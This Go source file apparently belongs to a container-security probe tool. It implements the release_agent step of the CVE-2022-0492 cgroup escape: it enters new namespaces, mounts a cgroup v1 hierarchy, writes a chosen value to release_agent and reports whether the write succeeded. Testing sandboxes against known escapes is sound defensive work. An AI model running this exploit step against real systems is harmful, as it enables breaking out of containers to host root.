package main

import (
	"fmt"
	"io"
	"os"
	"os/exec"
	"syscall"

	"golang.org/x/sys/unix"
)

func init() {
	register("release-agent", "here|nested OPTIONS VALUE", releaseAgent)
	register("release-agent-child", "OPTIONS VALUE", releaseAgentChild)
}

// releaseAgent plays CVE-2022-0492: it mounts a cgroup v1 hierarchy with
// mount data OPTIONS ("memory" for an existing hierarchy, "none,name=x"
// for a new named one) on a scratch directory and writes VALUE to its
// release_agent. "here" tries it in the process's own namespaces; "nested"
// first enters new user, mount and cgroup namespaces (root mapped to our
// uid), as the published exploit does. It prints "unshare ERRNO",
// "mount ERRNO", "write ERRNO", or "WROTE" when the attack worked.
func releaseAgent(out io.Writer, args []string) error {
	if err := needArgs(args, 3, 3, "here|nested OPTIONS VALUE"); err != nil {
		return err
	}
	switch args[0] {
	case "here":
		return releaseAgentChild(out, args[1:])
	case "nested":
	default:
		return usageError{"here|nested OPTIONS VALUE"}
	}
	cmd := exec.Command("/proc/self/exe", append([]string{"release-agent-child"}, args[1:]...)...)
	cmd.Stdout, cmd.Stderr = out, out
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWCGROUP,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
	}
	if err := cmd.Run(); err != nil {
		fmt.Fprintf(out, "unshare %s\n", errnoName(err))
	}
	return nil
}

// releaseAgentChild mounts, writes and unmounts again (a mount that
// worked must not outlive the attempt).
func releaseAgentChild(out io.Writer, args []string) error {
	if err := needArgs(args, 2, 2, "OPTIONS VALUE"); err != nil {
		return err
	}
	dir, err := scratchDir()
	if err != nil {
		return err
	}
	defer os.Remove(dir)
	if err := unix.Mount("cgroup", dir, "cgroup", 0, args[0]); err != nil {
		fmt.Fprintf(out, "mount %s\n", errnoName(err))
		return nil
	}
	defer unix.Unmount(dir, unix.MNT_DETACH)
	fd, err := unix.Open(dir+"/release_agent", unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err == nil {
		_, err = unix.Write(fd, []byte(args[1]))
		unix.Close(fd)
	}
	if err != nil {
		fmt.Fprintf(out, "write %s\n", errnoName(err))
		return nil
	}
	fmt.Fprintln(out, "WROTE")
	return nil
}
